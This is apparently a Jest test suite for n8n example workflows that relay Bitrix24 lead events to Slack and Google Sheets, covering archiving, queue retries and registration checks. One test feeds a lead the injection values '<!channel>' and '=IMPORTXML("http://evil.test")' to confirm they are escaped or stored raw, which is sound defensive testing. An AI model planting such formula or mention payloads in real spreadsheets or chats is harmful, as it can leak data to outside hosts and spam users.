import { readdir } from 'node:fs/promises';

import { EXAMPLES } from '../../demo/readExample.mjs';
import { ACME, EXAMPLES_FOLDER, exampleText, type ExampleWorld, openExampleWorld } from './support/exampleWorld.mjs';
import { until } from './support/until.mjs';

jest.setTimeout(180_000);

let world: ExampleWorld;
beforeAll(async () => {
	world = await openExampleWorld();
});
afterAll(async () => await world?.close());
beforeEach(() => {
	world.services.rows.length = 0;
	world.services.messages.length = 0;
});

const recycleBin = () => `<https://${world.host}/crm/recyclebin/|Recycle bin>`;

describe('the examples', () => {
	test('are all tested here', async () => {
		const files = (await readdir(EXAMPLES_FOLDER)).filter((name) => name.endsWith('.json'));
		expect(files.sort()).toEqual(EXAMPLES.map((name) => `${name}.json`).sort());
	});

	test.each(EXAMPLES)('%s brings no credentials, no data and no address of somebody else', async (name) => {
		const text = await exampleText(name);
		for (const key of ['credentials', 'webhookId', 'instanceId', 'active', 'staticData']) {
			expect(text).not.toContain(`"${key}"`);
		}
		expect(JSON.parse(text).pinData).toEqual({});
	});
});

test('a new lead is told on Slack, with name and phone', async () => {
	const { portal, services } = world;
	const id = await world.activate('new-lead-to-slack');
	portal.leads.add({ ...ACME, ID: 1000990, NAME: 'Carol', LAST_NAME: 'Cook & Sons' });
	await world.succeeded(id, 1);
	portal.leads.add({ ID: 1000991, TITLE: 'Nameless' });
	await world.succeeded(id, 2);
	await world.client.deactivate(id);
	const link = (lead: number) => `<https://${world.host}/crm/lead/details/${lead}/|Open it>`;
	expect(services.messages.map(({ text }) => text)).toEqual([
		`New lead Acme Ltd (#1000990): Carol Cook &amp; Sons, +1 202 555 0143\n${link(1000990)}`,
		`New lead Nameless (#1000991): no name and no phone\n${link(1000991)}`,
	]);
});

describe('a deleted lead', () => {
	test('is told on Slack: who, which lead, which portal, and where to find it', async () => {
		const { portal, services } = world;
		const id = await world.activate('deleted-lead-to-slack');
		portal.leads.add(ACME);
		portal.leads.delete(ACME.ID);
		await world.succeeded(id, 1);
		const { ID } = portal.leads.add();
		portal.leads.delete(ID, { by: 'robot' });
		await world.succeeded(id, 2);
		await world.client.deactivate(id);
		expect(services.messages).toEqual([
			{
				channel: '#leads',
				text: `Lead #1000983 was deleted by Vadim Valeev on ${world.host}\n${recycleBin()}`,
			},
			{ channel: '#leads', text: `Lead #${ID} was deleted by a robot on ${world.host}\n${recycleBin()}` },
		]);
	});

	test('becomes a row in Google Sheets, below headings', async () => {
		const { portal, services } = world;
		const id = await world.activate('deleted-lead-to-google-sheets');
		const leads = [portal.leads.add(), portal.leads.add()].map(({ ID }) => Number(ID));
		for (const [index, lead] of leads.entries()) {
			portal.leads.delete(lead);
			await world.succeeded(id, index + 1);
		}
		await world.client.deactivate(id);
		const [headings = [], ...rows] = services.rows;
		expect(headings).toEqual(expect.arrayContaining(['event', 'leadId', 'sentAt', 'portalDomain', 'userName']));
		const shown = rows.map((row) => Object.fromEntries(headings.map((name, index) => [name, row[index]])));
		const row = { event: 'ONCRMLEADDELETE', portalDomain: world.host, userName: 'Vadim Valeev' };
		expect(shown).toEqual(leads.map((leadId) => expect.objectContaining({ ...row, leadId })));
	});
});

describe('the lead archive', () => {
	let keep: string;
	let told: string;
	beforeAll(async () => {
		keep = await world.activate('lead-archive-keep');
		told = await world.activate('lead-archive-deleted-lead');
	});
	afterAll(async () => await Promise.all([keep, told].map(async (id) => await world.client.deactivate(id))));

	test('tells name, company, phone, owner and value of a lead that is gone, as they were last', async () => {
		const { portal, services } = world;
		portal.leads.add({ ...ACME, TITLE: 'Acme', OPPORTUNITY: '1.00' });
		await world.succeeded(keep, 1);
		portal.leads.update(ACME.ID, { TITLE: 'Acme Ltd', OPPORTUNITY: '2500.00' });
		await world.succeeded(keep, 2);
		portal.leads.delete(ACME.ID);
		await world.succeeded(told, 1);
		const [message] = services.messages;
		expect(message?.text.split('\n')).toEqual([
			`Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on ${world.host}`,
			'Acme &amp; Sons, +1 202 555 0143, owner user #15, 2500 EUR',
			recycleBin(),
		]);
		expect(services.rows).toEqual([
			['deletedAt', 'leadId', 'name', 'company', 'phone', 'owner', 'value', 'deletedBy', 'portal', 'recycleBin'],
			[
				expect.stringMatching(/^\d{4}-.*Z$/),
				1000983,
				'Acme Ltd',
				'Acme & Sons',
				'+1 202 555 0143',
				'user #15',
				'2500 EUR',
				'Vadim Valeev',
				world.host,
				`https://${world.host}/crm/recyclebin/`,
			],
		]);
	});

	test('tells by number a lead that it has never seen, whoever deleted it', async () => {
		const { portal, services, client } = world;
		await client.deactivate(keep);
		const { ID } = portal.leads.add();
		portal.leads.delete(ID, { by: 'robot' });
		await world.succeeded(told, 2);
		await client.activate(keep);
		const text = `Lead #${ID} was deleted by a robot on ${world.host}\n${recycleBin()}`;
		expect(services.messages).toEqual([{ channel: '#leads', text }]);
	});

	test('lets nobody reach others through a lead’s title: no mention on Slack, no formula in the sheet', async () => {
		const { portal, services } = world;
		const { ID } = portal.leads.add({ TITLE: '<!channel>', COMPANY_TITLE: '=IMPORTXML("http://evil.test")' });
		await world.succeeded(keep, 3);
		portal.leads.delete(ID);
		await world.succeeded(told, 3);
		expect(services.messages[0]?.text).toContain("'&lt;!channel>'");
		expect([services.rows[1]?.[3], services.valueInputOption]).toEqual(['=IMPORTXML("http://evil.test")', 'RAW']);
	});
});

describe('the queue', () => {
	let told: string;
	beforeAll(async () => {
		const keep = await world.activate('lead-archive-keep');
		world.portal.leads.add(ACME);
		await world.succeeded(keep, 1);
		await world.client.deactivate(keep);
		told = await world.activate('queue-deleted-lead');
		world.portal.deliveries.length = 0;
	});

	const queueIsEmpty = () => until('the queue is empty', () => world.portal.queue.records().length === 0);

	test('a deleted lead is told from the queue, with what the archive knows of it', async () => {
		const { portal, services } = world;
		portal.leads.delete(ACME.ID);
		await world.succeeded(told, 1);
		expect(services.messages.map(({ text }) => text.split('\n'))).toEqual([
			[
				`Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on ${world.host}`,
				'Acme &amp; Sons, +1 202 555 0143, owner user #15, 2500 EUR',
				recycleBin(),
			],
		]);
		expect(services.rows[1]).toEqual(expect.arrayContaining(['Acme Ltd', 'user #15', 'Vadim Valeev']));
		await queueIsEmpty();
		expect(portal.deliveries.filter(({ event }) => event === 'ONCRMLEADDELETE')).toEqual([]);
	});

	test('a robot is told as such', async () => {
		const { portal, services } = world;
		const { ID } = portal.leads.add();
		portal.leads.delete(ID, { by: 'robot' });
		await world.succeeded(told, 2);
		expect(services.messages.at(-1)?.text).toContain(`Lead #${ID} was deleted by a robot on`);
	});

	test('a message that did not get out is repeated', async () => {
		const { portal, services, client } = world;
		const before = services.messages.length;
		services.slackIsDown = true;
		const { ID } = portal.leads.add();
		portal.leads.delete(ID);
		await until('a run has failed', async () => (await client.executions(told, { status: 'error' })).length > 0);
		services.slackIsDown = false;
		await queueIsEmpty();
		expect(services.messages.slice(before).map(({ text }) => text.split(' was')[0])).toEqual([`Lead #${ID}`]);
	});

	test('an event that comes again after its message is out is left out', async () => {
		const { portal, services, client, n8n } = world;
		const before = services.messages.length;
		const ran = (await client.executions(told, { status: 'success' })).length;
		portal.faults.next('event.offline.clear', 'timeout', { times: 1000 });
		const { ID } = portal.leads.add();
		portal.leads.delete(ID);
		await until('the run has ended', async () => (await client.executions(told, { status: 'success' })).length > ran);
		await n8n.kill();
		portal.faults.clear();
		await n8n.start();
		await queueIsEmpty();
		await until('it came again', async () => (await client.executions(told, { status: 'success' })).length > ran + 1);
		expect(services.messages.slice(before).map(({ text }) => text.split(' was')[0])).toEqual([`Lead #${ID}`]);
	});
});

describe('the watch over registrations', () => {
	test('tells which event is registered no more, and is silent before', async () => {
		const { portal, services, client } = world;
		const watched = await world.activate('deleted-lead-to-slack');
		const [productionUrl = ''] = portal.handlers().flatMap((row) => (row.offline === 0 ? row.handler : []));
		const events = 'ONCRMLEADDELETE';
		const watch = await world.activate('watch-registrations', { portal: portal.portalUrl, productionUrl, events });
		await world.succeeded(watch, 2);
		expect(services.messages).toEqual([]);
		portal.reinstallApp();
		await until('it is told', () => services.messages.length > 0);
		expect(services.messages[0]).toEqual({
			channel: '#n8n',
			text: expect.stringContaining(`no longer sends ONCRMLEADDELETE to ${productionUrl}. Unpublish and publish`),
		});
		await client.deactivate(watched);
		await client.activate(watched);
		services.messages.length = 0;
		const ran = (await client.executions(watch, { status: 'success' })).length;
		await world.succeeded(watch, ran + 2);
		// The first may have been under way.
		expect(services.messages.slice(1)).toEqual([]);
		await client.deactivate(watched);
		await client.deactivate(watch);
	});

	test('tells that Bitrix24 did not answer', async () => {
		const { portal, services, client } = world;
		portal.faults.next('event.get', { status: 403, error: 'ACCESS_DENIED' }, 1e6);
		const watch = await world.activate('watch-registrations', { portal: portal.portalUrl, productionUrl: 'x' });
		await until('it is told', () => services.messages.length > 0);
		portal.faults.clear();
		await client.deactivate(watch);
		expect(services.messages[0]?.text).toMatch(/did not say what it sends: .+"Connect my account"/);
	});
});
